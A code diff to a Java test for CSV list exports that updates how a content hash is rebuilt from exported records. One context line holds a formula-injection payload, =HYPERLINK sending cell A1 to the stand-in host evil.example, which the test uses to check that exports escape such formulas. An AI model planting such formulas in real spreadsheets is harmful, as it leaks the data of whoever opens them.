@@ -132,7 +132,7 @@ class ListExportsTest {
                 List<List<String>> records = CsvReader.read(new String(csv, StandardCharsets.UTF_8).substring(BOM.length()));
                 assertEquals(DataDictionary.itemFieldNames(), HeadingRow.fieldNames(records.get(0)));
                 assertEquals(cells(world.catalogue().items(version)), records.subList(1, records.size()), version.ledgerSubject());
-                assertEquals(version.contentHash(), hashOf(version, records), "the CSV holds every item losslessly");
+                assertEquals(version.contentHash(), hashOf(world, version, records), "the CSV holds every item losslessly");
             }
         }
     }
@@ -148,7 +148,7 @@ class ListExportsTest {
             assertTrue(csv.contains(",,FIRE;HAZARDOUS_CHEMICALS,,"), "no phone, then sectors joined by ';': " + csv);
             List<List<String>> records = CsvReader.read(csv.substring(BOM.length()));
             assertEquals(cells(List.of(AWKWARD)), records.subList(1, records.size()));
-            assertEquals(version.contentHash(), hashOf(version, records));
+            assertEquals(version.contentHash(), hashOf(world, version, records));
         }
     }
 
@@ -169,7 +169,7 @@ class ListExportsTest {
                 assertTrue(row.get(HeadingRow.fieldNames(records.get(0)).indexOf(field)).startsWith("'"), field + ": " + row);
             }
             assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", row.get(HeadingRow.fieldNames(records.get(0)).indexOf("title")));
-            assertEquals(version.contentHash(), hashOf(version, withoutAddedQuotes(records)),
+            assertEquals(version.contentHash(), hashOf(world, version, withoutAddedQuotes(records)),
                     "removing the one added quote gives back the published content");
 
             ItemSetExport items = world.context.getBean(ItemSetExports.class).export(
@@ -309,8 +309,12 @@ class ListExportsTest {
         return rows;
     }
 
-    /** The SHA-256 of the version's canonical content rebuilt from the exported records alone. */
-    private static String hashOf(ListVersion version, List<List<String>> records) {
+    /**
+     * The SHA-256 of the version's canonical content rebuilt from the exported records, with the makers
+     * (labels and seal) as the canonical JSON beside the export gives them.
+     */
+    private static String hashOf(World world, ListVersion version, List<List<String>> records) {
+        Map<String, Object> published = world.catalogue().publishedContent(version);
         List<String> names = HeadingRow.fieldNames(records.get(0));
         List<Map<String, Object>> items = new ArrayList<>();
         for (List<String> record : records.subList(1, records.size())) {
@@ -331,9 +335,9 @@ class ListExportsTest {
         content.put("changeReason", version.changeReason().name());
         content.put("items", items);
         content.put("basedOn", version.basedOnId() == null ? null : "list-version:" + version.basedOnId());
-        content.put("draftedBy", version.draftedBy());
-        content.put("submittedBy", version.submittedBy());
-        content.put("publishedBy", version.reviewedBy());
+        for (String maker : List.of("draftedBy", "submittedBy", "publishedBy", "makersSeal")) {
+            content.put(maker, published.get(maker));
+        }
         return Sha256.of(CanonicalJson.write(content));
     }
 
